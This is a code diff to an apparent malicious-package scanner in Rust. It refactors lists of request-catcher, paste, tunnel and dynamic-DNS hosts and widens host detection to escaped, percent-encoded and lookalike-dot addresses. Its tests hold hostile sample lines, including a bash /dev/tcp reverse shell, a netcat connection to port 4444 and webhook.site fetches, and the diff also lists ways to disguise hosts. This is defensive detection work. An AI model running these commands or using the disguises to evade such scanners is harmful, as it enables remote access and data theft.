@@ -4,9 +4,13 @@
 //! request catchers, webhooks, tunnels) and `.onion` are where published malicious packages sent it. Source of the lists: reports
 //! of such packages, and the lists of out-of-band services that scanners use.
 
+mod bare;
+mod lists;
+
 use super::sink::{Kept, Said, Sink};
 use super::subject::Subject;
 use crate::verdict::{Category, Confidence, ReviewFinding, Risk};
+use lists::{CATCHERS, NOBODY, NOBODY_ENDINGS, SHARES, USUAL};
 use std::collections::{BTreeSet, HashSet};
 use std::net::{Ipv4Addr, Ipv6Addr};
 use std::ops::Range;
@@ -34,129 +38,6 @@ pub(super) struct Named {
     pub(super) range: Range<usize>,
 }
 
-/// Services that catch requests, for out-of-band tests and for thieves.
-const CATCHERS: &[&str] = &[
-    "webhook.site",
-    "webhook.cool",
-    "requestbin.com",
-    "requestbin.net",
-    "requestcatcher.com",
-    "hookbin.com",
-    "pipedream.net",
-    "beeceptor.com",
-    "oast.fun",
-    "oast.live",
-    "oast.me",
-    "oast.online",
-    "oast.pro",
-    "oast.site",
-    "interact.sh",
-    "interactsh.com",
-    "burpcollaborator.net",
-    "oastify.com",
-    "dnslog.cn",
-    "ceye.io",
-    "canarytokens.com",
-    "postb.in",
-    "ptsv3.com",
-    "mockbin.org",
-];
-/// Paste bins, file drops, tunnels, names for a changing address.
-const SHARES: &[&str] = &[
-    "pastebin.com",
-    "hastebin.com",
-    "paste.ee",
-    "ghostbin.com",
-    "rentry.co",
-    "dpaste.com",
-    "termbin.com",
-    "ix.io",
-    "transfer.sh",
-    "file.io",
-    "0x0.st",
-    "anonfiles.com",
-    "gofile.io",
-    "catbox.moe",
-    "temp.sh",
-    "bashupload.com",
-    "oshi.at",
-    "ngrok.io",
-    "ngrok.app",
-    "ngrok-free.app",
-    "ngrok.dev",
-    "trycloudflare.com",
-    "serveo.net",
-    "loca.lt",
-    "localhost.run",
-    "bore.pub",
-    "duckdns.org",
-    "no-ip.org",
-    "ddns.net",
-    "hopto.org",
-];
-/// Hosts that much code names, with all below them. They are listed after all others, and not left out.
-const USUAL: &[&str] = &[
-    "github.com",
-    "gitlab.com",
-    "npmjs.com",
-    "npmjs.org",
-    "pypi.org",
-    "python.org",
-    "crates.io",
-    "docs.rs",
-    "go.dev",
-    "golang.org",
-    "nodejs.org",
-    "mozilla.org",
-    "wikipedia.org",
-    "stackoverflow.com",
-    "microsoft.com",
-    "google.com",
-    "apple.com",
-    "w3.org",
-    "ietf.org",
-    "modelcontextprotocol.io",
-];
-/// Hosts that stand for none: documentation (RFC 2606, RFC 6761), and names of formats that nobody contacts.
-const NOBODY: &[&str] = &[
-    "localhost",
-    "example.com",
-    "example.org",
-    "example.net",
-    "www.w3.org",
-    "json-schema.org",
-    "schemas.microsoft.com",
-    "schemas.android.com",
-    "schemas.xmlsoap.org",
-    "schemas.openxmlformats.org",
-    "purl.org",
-    "ns.adobe.com",
-    "xmlns.com",
-    "maven.apache.org",
-    "www.apache.org",
-    "opensource.org",
-    "creativecommons.org",
-    "spdx.org",
-    "www.gnu.org",
-    "unicode.org",
-    "tools.ietf.org",
-    "datatracker.ietf.org",
-    "www.rfc-editor.org",
-    "host",
-    "hostname",
-];
-const NOBODY_ENDINGS: &[&str] = &[
-    ".example",
-    ".test",
-    ".invalid",
-    ".local",
-    ".localhost",
-    ".internal",
-    ".example.com",
-    ".example.org",
-    ".example.net",
-];
-
 /// The most different hosts that are kept of one file, of each kind: more than any file has that people wrote.
 const PER_FILE: usize = 5_000;
 /// How many hosts are listed; who has more new ones in one file hides them among each other.
@@ -181,14 +62,7 @@ pub(super) fn find(subject: &Subject<'_>) -> Hosts {
     }
     let code = subject.code();
     let (mut seen, mut kept): (HashSet<(String, bool)>, [usize; 2]) = Default::default();
-    for (at, _) in code.match_indices("://") {
-        let Some(scheme) = scheme_before(code, at) else { continue };
-        let rest = code.as_bytes().get(at + 3..).unwrap_or_default();
-        let length = rest.iter().take(LONGEST).position(|byte| ends_address(*byte)).unwrap_or(rest.len().min(LONGEST));
-        let Some(address) = code.get(at + 3..at + 3 + length) else { continue };
-        let Some(host) = host_of(address) else { continue };
-        let Some(kind) = kind(&host, address) else { continue };
-        let range = at - scheme..at + 3 + length;
+    for (host, kind, range) in addresses(code).chain(bare::find(code)) {
         let key = (host, subject.is_old(&range));
         if seen.contains(&key) {
             continue;
@@ -204,7 +78,25 @@ pub(super) fn find(subject: &Subject<'_>) -> Hosts {
         found.named.push(Named { host: key.0.clone(), kind, range });
         seen.insert(key);
     }
+    found.named.sort_by_key(|named| named.range.start);
     found
+}
+
+/// The addresses that are written out, with a scheme.
+fn addresses(code: &str) -> impl Iterator<Item = (String, Kind, Range<usize>)> {
+    // In JSON and regular expressions slashes are escaped.
+    let places = ["://", ":\\/\\/"].into_iter().flat_map(|sign| code.match_indices(sign));
+    places.filter_map(|(at, sign)| {
+        let scheme = scheme_before(code, at)?;
+        let start = at + sign.len();
+        let rest = code.get(start..)?;
+        let rest = rest.get(..rest.floor_char_boundary(LONGEST))?;
+        let length = rest.find(ends_address).unwrap_or(rest.len());
+        let address = rest.get(..length)?;
+        let host = host_of(address)?;
+        let kind = kind(&host, address)?;
+        Some((host, kind, at - scheme..start + length))
+    })
 }
 
 fn scheme_before(code: &str, at: usize) -> Option<usize> {
@@ -218,18 +110,24 @@ fn scheme_before(code: &str, at: usize) -> Option<usize> {
         .map(|s| s.len())
 }
 
-fn ends_address(byte: u8) -> bool {
-    byte.is_ascii_whitespace()
-        || !byte.is_ascii()
-        || matches!(byte, b'"' | b'\'' | b'`' | b'<' | b'>' | b')' | b'(' | b'\\' | b'|' | b'^' | b',' | b';')
+fn ends_address(c: char) -> bool {
+    c.is_ascii_whitespace()
+        || !(c.is_ascii() || DOTS.contains(&c))
+        || matches!(c, '"' | '\'' | '`' | '<' | '>' | ')' | '(' | '\\' | '|' | '^' | ',' | ';')
 }
+
+/// What addresses may have in place of a dot: programs that contact them make dots of it.
+const DOTS: [char; 3] = ['。', '．', '｡'];
 
 /// The host, in lower case; none when it is put together at run time.
 fn host_of(address: &str) -> Option<String> {
     let authority = address.split(['/', '?', '#']).next()?;
+    let authority = authority.replace(DOTS, ".").replace("%2e", ".").replace("%2E", ".");
     let host = authority.rsplit('@').next()?;
     let host = if host.starts_with('[') { host.split_inclusive(']').next()? } else { host.split(':').next()? };
     let fits = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'_' | b'[' | b']' | b':');
+    // A dot at the end says that the name is whole.
+    let host = host.strip_suffix('.').unwrap_or(host);
     (!host.is_empty() && host.len() <= 253 && host.bytes().all(fits)).then(|| host.to_ascii_lowercase())
 }
 
@@ -463,6 +361,30 @@ mod tests {
         high a.py:1: This code contacts a service that catches requests, or an address that includes the right to post to it: discord.com
             | x = 'https://discord.com/api/webhooks/123456789012345678/aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3'
         ");
+    }
+
+    #[test]
+    fn hosts_are_found_without_a_scheme() {
+        for (path, line, host) in [
+            ("a.js", "https.request({ hostname: 'webhook.site', path })", "webhook.site"),
+            ("a.js", "fetch('https:' + '//x.oast.fun/' + y)", "x.oast.fun"),
+            ("a.js", "fetch('https:webhook.site/x')", "webhook.site"),
+            ("a.js", "fetch('https:\\/\\/webhook.site\\/x')", "webhook.site"),
+            ("a.js", "fetch('https://webhook%2esite/x')", "webhook.site"),
+            ("a.js", "fetch('https://webhook。site/x')", "webhook.site"),
+            ("a.js", "fetch('https://webhook.site./x')", "webhook.site"),
+            ("a.js", "net.connect(4444, '45.33.32.156')", "45.33.32.156"),
+            ("a.py", "s.connect(('45.33.32.156', 4444))", "45.33.32.156"),
+            ("a.py", "HTTPSConnection('a.ngrok-free.app')", "a.ngrok-free.app"),
+            ("a.go", "net.Dial(\"tcp\", \"45.33.32.156:4444\")", "45.33.32.156"),
+            ("a.sh", "bash -i >& /dev/tcp/45.33.32.156/4444 0>&1", "45.33.32.156"),
+            ("a.sh", "nc 45.33.32.156 4444", "45.33.32.156"),
+        ] {
+            let found = shown_full(&[(path, &format!("{line}\n"))]);
+            assert!(found.contains(&format!(": {host}\n")), "{line}: {found}");
+        }
+        let fine = "run('./temp.sh'); v = '4.8.15.16'; w = ('10.0.0.1', 80); x = file.io; y = 'my-webhook.site.ts'; z = ('127.0.0.1', 1); o = '1.3.6.1.4.1'; t = ('1.2.3.4', 80)\n";
+        assert_eq!(shown_full(&[("a.py", fine)]), "");
     }
 
     #[test]
